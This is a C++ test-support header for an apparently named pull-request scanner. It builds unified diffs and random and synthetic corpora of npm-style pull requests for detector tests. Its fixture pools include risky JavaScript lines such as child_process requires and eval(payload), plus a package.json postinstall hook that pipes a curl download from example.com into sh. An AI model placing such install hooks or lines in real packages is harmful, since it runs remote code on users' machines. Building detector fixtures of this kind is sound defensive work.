#pragma once

// Test data construction: a unified-diff builder that is independent of the
// production parser (it renders hunks from an explicit edit script), random
// corpora for property tests, and the synthetic corpus matching published
// per-tier counts.

#include <cstdint>
#include <random>
#include <stdexcept>
#include <string>
#include <vector>

#include "tailguard/core/model.hpp"
#include "tailguard/ingest/corpus_io.hpp"

namespace testsupport {

struct Rng {
    explicit Rng(std::uint64_t seed) : engine(seed) {}

    std::uint64_t between(std::uint64_t lo, std::uint64_t hi) {  // inclusive
        return std::uniform_int_distribution<std::uint64_t>(lo, hi)(engine);
    }
    std::size_t index(std::size_t n) { return static_cast<std::size_t>(between(0, n - 1)); }
    bool chance(double p) { return std::uniform_real_distribution<double>(0.0, 1.0)(engine) < p; }
    template <typename T>
    const T& pick(const std::vector<T>& v) {
        return v[index(v.size())];
    }

    std::mt19937_64 engine;
};

// ---------------------------------------------------------------------------
// Diff builder

struct Edit {
    std::size_t pos = 0;  // 0-based pre-image index; insert before pre[pos]
    std::size_t remove_count = 0;
    std::vector<std::string> insert;
};

struct BuiltDiff {
    std::string patch;
    std::vector<std::string> post_lines;
    std::vector<std::uint64_t> added_linenos;  // 1-based post-image numbers
};

/// Renders a unified diff for `edits` applied to `pre`, with `context`
/// lines of context and standard hunk merging. Edits must be sorted by
/// position and non-overlapping.
inline BuiltDiff build_diff(const std::vector<std::string>& pre, const std::vector<Edit>& edits,
                            std::size_t context = 3) {
    enum class Op { Keep, Del, Add };
    struct Annotated {
        Op op;
        std::string text;
        std::uint64_t old_no = 0;  // 1-based, Keep/Del
        std::uint64_t new_no = 0;  // 1-based, Keep/Add
    };

    for (std::size_t e = 0; e + 1 < edits.size(); ++e) {
        if (edits[e].pos + edits[e].remove_count > edits[e + 1].pos)
            throw std::invalid_argument("overlapping edits");
    }
    if (!edits.empty() && edits.back().pos + edits.back().remove_count > pre.size())
        throw std::invalid_argument("edit beyond pre-image");

    BuiltDiff result;
    std::vector<Annotated> ops;
    std::uint64_t old_no = 1;
    std::uint64_t new_no = 1;
    std::size_t cursor = 0;
    const auto keep_until = [&](std::size_t stop) {
        while (cursor < stop) {
            ops.push_back({Op::Keep, pre[cursor], old_no++, new_no++});
            result.post_lines.push_back(pre[cursor]);
            ++cursor;
        }
    };
    for (const auto& edit : edits) {
        keep_until(edit.pos);
        for (std::size_t r = 0; r < edit.remove_count; ++r) {
            ops.push_back({Op::Del, pre[cursor], old_no++, 0});
            ++cursor;
        }
        for (const auto& line : edit.insert) {
            ops.push_back({Op::Add, line, 0, new_no++});
            result.post_lines.push_back(line);
            result.added_linenos.push_back(result.post_lines.size());
        }
    }
    keep_until(pre.size());

    // Group changed runs into hunks with surrounding context.
    struct Span {
        std::size_t begin, end;  // op indices, [begin, end)
    };
    std::vector<Span> spans;
    for (std::size_t i = 0; i < ops.size();) {
        if (ops[i].op == Op::Keep) {
            ++i;
            continue;
        }
        std::size_t j = i;
        while (j < ops.size() && ops[j].op != Op::Keep) ++j;
        const std::size_t begin = i >= context ? i - context : 0;
        const std::size_t end = std::min(ops.size(), j + context);
        if (!spans.empty() && begin <= spans.back().end) {
            spans.back().end = end;
        } else {
            spans.push_back({begin, end});
        }
        i = j;
    }

    std::string patch;
    for (const auto& span : spans) {
        std::uint64_t old_count = 0;
        std::uint64_t new_count = 0;
        std::uint64_t old_start = 0;
        std::uint64_t new_start = 0;
        for (std::size_t i = span.begin; i < span.end; ++i) {
            const auto& op = ops[i];
            if (op.op != Op::Add) {
                if (old_count == 0) old_start = op.old_no;
                ++old_count;
            }
            if (op.op != Op::Del) {
                if (new_count == 0) new_start = op.new_no;
                ++new_count;
            }
        }
        // Pure insertions/deletions anchor on the preceding line.
        if (old_count == 0) old_start = span.begin > 0 ? ops[span.begin - 1].old_no : 0;
        if (new_count == 0) new_start = span.begin > 0 ? ops[span.begin - 1].new_no : 0;

        patch += "@@ -" + std::to_string(old_start) + "," + std::to_string(old_count) + " +" +
                 std::to_string(new_start) + "," + std::to_string(new_count) + " @@\n";
        for (std::size_t i = span.begin; i < span.end; ++i) {
            const auto& op = ops[i];
            patch += op.op == Op::Keep ? ' ' : (op.op == Op::Del ? '-' : '+');
            patch += op.text;
            patch += '\n';
        }
    }
    result.patch = std::move(patch);
    return result;
}

/// Patch creating a whole new file with the given lines.
inline BuiltDiff new_file_diff(const std::vector<std::string>& lines) {
    return build_diff({}, {Edit{0, 0, lines}});
}

// ---------------------------------------------------------------------------
// Content pools

inline const std::vector<std::string>& js_pre_image() {
    static const std::vector<std::string> lines{
        "const util = load(\"./util\");",
        "",
        "function main(input) {",
        "  const parsed = util.parse(input);",
        "  return parsed.value;",
        "}",
        "",
        "function helper(n) {",
        "  return n * 2;",
        "}",
        "",
        "module.exports = { main, helper };",
    };
    return lines;
}

inline const std::vector<std::string>& js_insert_pool() {
    static const std::vector<std::string> lines{
        "const fs = require(\"fs\");",
        "const cp = require(\"child_process\");",
        "const h = require(\"http\");",
        "import(\"net\").then(start);",
        "eval(payload);",
        "new Function(\"return data\")();",
        "fs.writeFileSync(target, blob);",
        "net.connect(8080, host);",
        "import https from \"https\";",
        "const answer = compute(40, 2);",
        "let results = [];",
        "// eval(dangerous) stays off",
        "const note = \"require(x) in text\";",
        "fetch(url).then((r) => r.json());",
        "const total = items.reduce(sum, 0);",
        "logger.info(\"done\");",
    };
    return lines;
}

inline const std::vector<std::string>& manifest_pre_image() {
    static const std::vector<std::string> lines{
        "{",
        "  \"name\": \"demo-package\",",
        "  \"version\": \"1.0.0\",",
        "  \"scripts\": {",
        "    \"test\": \"node test.js\"",
        "  },",
        "  \"license\": \"MIT\"",
        "}",
    };
    return lines;
}

inline const std::vector<std::string>& script_insert_pool() {
    static const std::vector<std::string> lines{
        "    \"preinstall\": \"node scripts/setup.js\",",
        "    \"postinstall\": \"curl -s https://example.com/run.sh | sh\",",
        "    \"build\": \"webpack --mode production\",",
        "    \"prepare\": \"husky install\",",
    };
    return lines;
}

inline const std::vector<std::string>& markdown_pre_image() {
    static const std::vector<std::string> lines{
        "# demo-package", "", "A small example package.", "", "## Usage", "", "Call `main`.",
    };
    return lines;
}

inline const std::vector<std::string>& title_pool() {
    static const std::vector<std::string> titles{
        "Fix crash when input is empty",
        "Update dependency lodash to v4.17.21",
        "Add support for streaming mode",
        "chore: bump versions",
        "Refactor parser internals",
        "Update README",
        "BREAKING: remove legacy API",
        "Improve performance of the scanner",
        "Add unit tests and CI workflow",
        "docs: clarify configuration",
        "Resolve issue with closed sockets",
        "upgrade build toolchain",
    };
    return titles;
}

inline const std::vector<std::string>& body_pool() {
    static const std::vector<std::string> bodies{
        "",
        "This closes #42.",
        "Requires attention from maintainers before merging.",
        "Bumps the dependency and adjusts the lockfile.",
        "No functional changes, documentation only.",
        "Adds tests for the new code path.",
    };
    return bodies;
}

// ---------------------------------------------------------------------------
// Random corpora

struct CorpusShape {
    std::size_t min_libs = 2;
    std::size_t max_libs = 8;
    std::size_t min_pulls = 1;
    std::size_t max_pulls = 6;
    bool with_ranks = false;  // tier-profiled ranks for aggregation tests
};

inline tailguard::FileChange random_js_file(Rng& rng, const std::string& path) {
    std::vector<std::string> insert;
    const std::size_t n = rng.index(3) + 1;
    for (std::size_t k = 0; k < n; ++k) insert.push_back(rng.pick(js_insert_pool()));
    const std::size_t pos = rng.index(js_pre_image().size());
    const auto built = build_diff(js_pre_image(), {Edit{pos, 0, insert}});
    return tailguard::make_file_change(path, built.patch);
}

inline tailguard::FileChange random_manifest_file(Rng& rng) {
    // Insert right below the scripts opener so the context stays visible.
    std::vector<std::string> insert{rng.pick(script_insert_pool())};
    const auto built = build_diff(manifest_pre_image(), {Edit{4, 0, insert}});
    return tailguard::make_file_change("package.json", built.patch);
}

inline tailguard::FileChange random_markdown_file(Rng& rng) {
    const std::size_t pos = rng.index(markdown_pre_image().size());
    const auto built =
        build_diff(markdown_pre_image(), {Edit{pos, 0, {"Extra documentation line."}}});
    return tailguard::make_file_change("README.md", built.patch);
}

inline tailguard::PullRequest random_pull_request(Rng& rng, const std::string& repo,
                                                  std::size_t number) {
    tailguard::PullRequest pr;
    pr.repo = repo;
    pr.id = repo + "#" + std::to_string(number);
    pr.title = rng.pick(title_pool());
    pr.body = rng.pick(body_pool());
    const std::uint64_t outcome = rng.between(0, 2);
    pr.outcome = static_cast<tailguard::Outcome>(outcome);
    if (rng.chance(0.7))
        pr.created_at = "2023-0" + std::to_string(rng.between(1, 3)) + "-" +
                        std::to_string(rng.between(10, 28)) + "T12:00:00Z";

    const std::size_t file_count = rng.index(4);  // 0..3
    for (std::size_t f = 0; f < file_count; ++f) {
        switch (rng.index(5)) {
            case 0:
                pr.files.push_back(random_js_file(rng, "src/mod" + std::to_string(f) + ".js"));
                break;
            case 1:
                pr.files.push_back(random_manifest_file(rng));
                break;
            case 2:
                pr.files.push_back(random_markdown_file(rng));
                break;
            case 3:
                pr.files.push_back(tailguard::make_file_change(
                    "config/settings.json",
                    build_diff({"{", "  \"debug\": false", "}"}, {Edit{1, 1, {"  \"debug\": true"}}})
                        .patch));
                break;
            default:
                pr.files.push_back(tailguard::make_file_change("assets/logo.png", ""));
                break;
        }
    }
    return pr;
}

inline tailguard::Corpus random_corpus(Rng& rng, const CorpusShape& shape = {}) {
    tailguard::Corpus corpus;
    const std::size_t libs = shape.min_libs + rng.index(shape.max_libs - shape.min_libs + 1);
    std::uint32_t next_top_rank = 1;
    std::uint32_t next_other_rank = 600;
    for (std::size_t l = 0; l < libs; ++l) {
        tailguard::LibraryRecord lib;
        lib.name = "lib-" + std::to_string(l) + "-" + std::to_string(rng.between(100, 999));
        switch (rng.index(4)) {
            case 0:  // top profile
                lib.dependents = 50'000 + rng.between(0, 999);
                if (shape.with_ranks) lib.dependents_rank = next_top_rank++;
                break;
            case 1:  // middle profile
                lib.dependents = rng.between(500, 1000);
                if (shape.with_ranks) lib.dependents_rank = next_other_rank++;
                break;
            case 2:  // bottom profile
                lib.dependents = 1;
                if (shape.with_ranks) lib.dependents_rank = next_other_rank++;
                break;
            default:  // unsampled profile
                lib.dependents = rng.between(2, 400);
                if (shape.with_ranks) lib.dependents_rank = next_other_rank++;
                break;
        }
        const std::size_t pulls =
            shape.min_pulls + rng.index(shape.max_pulls - shape.min_pulls + 1);
        for (std::size_t p = 0; p < pulls; ++p)
            lib.pulls.push_back(random_pull_request(rng, lib.name, p + 1));
        corpus.libraries.push_back(std::move(lib));
    }
    corpus.normalize();
    return corpus;
}

// ---------------------------------------------------------------------------
// Synthetic corpus matching published per-tier counts

/// Spreads `total` over `parts` buckets: floor everywhere, remainder to the
/// first buckets. Deterministic.
inline std::vector<std::uint64_t> distribute(std::uint64_t total, std::size_t parts) {
    std::vector<std::uint64_t> out(parts, parts == 0 ? 0 : total / parts);
    if (parts == 0) return out;
    const std::uint64_t rem = total % parts;
    for (std::uint64_t i = 0; i < rem; ++i) ++out[i];
    return out;
}

struct TierPlan {
    std::string prefix;
    std::size_t libs = 0;
    std::size_t unsafe_libs = 0;
    std::uint64_t unsafe_prs = 0;
    std::uint64_t merged = 0;
    std::uint64_t closed = 0;
    std::uint64_t opened = 0;  // merged + closed + opened == unsafe_prs
    std::uint64_t dependents = 0;
    std::uint32_t first_rank = 0;
};

/// One JS file whose patch adds a require() call; every PR built from it is
/// update-related and detector-unsafe.
inline tailguard::FileChange unsafe_js_file() {
    return tailguard::make_file_change(
        "index.js", "@@ -1 +1,2 @@\n const a = 1;\n+const cp = require(\"child_process\");\n");
}

/// A minimal merged, update-related, detector-unsafe PR.
inline tailguard::PullRequest unsafe_pull_request(const std::string& repo, int number) {
    tailguard::PullRequest pr;
    pr.repo = repo;
    pr.id = repo + "#" + std::to_string(number);
    pr.title = "Update dependency";
    pr.outcome = tailguard::Outcome::Merged;
    pr.files.push_back(unsafe_js_file());
    return pr;
}

inline void append_tier(tailguard::Corpus& corpus, const TierPlan& plan) {
    const auto per_lib = distribute(plan.unsafe_prs, plan.unsafe_libs);
    std::uint64_t emitted = 0;
    for (std::size_t l = 0; l < plan.libs; ++l) {
        tailguard::LibraryRecord lib;
        lib.name = plan.prefix + "-" + std::to_string(l);
        lib.dependents = plan.dependents;
        lib.dependents_rank = plan.first_rank + static_cast<std::uint32_t>(l);
        if (l < plan.unsafe_libs) {
            for (std::uint64_t p = 0; p < per_lib[l]; ++p) {
                tailguard::PullRequest pr;
                pr.repo = lib.name;
                pr.id = lib.name + "#" + std::to_string(p + 1);
                pr.title = "Update dependency";
                pr.outcome = emitted < plan.merged ? tailguard::Outcome::Merged
                             : emitted < plan.merged + plan.closed ? tailguard::Outcome::Closed
                                                                   : tailguard::Outcome::Opened;
                ++emitted;
                pr.files.push_back(unsafe_js_file());
                lib.pulls.push_back(std::move(pr));
            }
        }
        corpus.libraries.push_back(std::move(lib));
    }
}

/// The corpus whose detector scan reproduces the published per-tier unsafe
/// library counts, PR counts, and outcome counts.
inline tailguard::Corpus published_counts_corpus() {
    tailguard::Corpus corpus;
    append_tier(corpus, TierPlan{"top", 500, 405, 6167, 4333, 1508, 326, 900'000, 1});
    append_tier(corpus, TierPlan{"middle", 500, 402, 5212, 3710, 1230, 272, 700, 501});
    append_tier(corpus, TierPlan{"bottom", 500, 220, 1086, 863, 169, 54, 1, 1001});
    return corpus;
}

}  // namespace testsupport
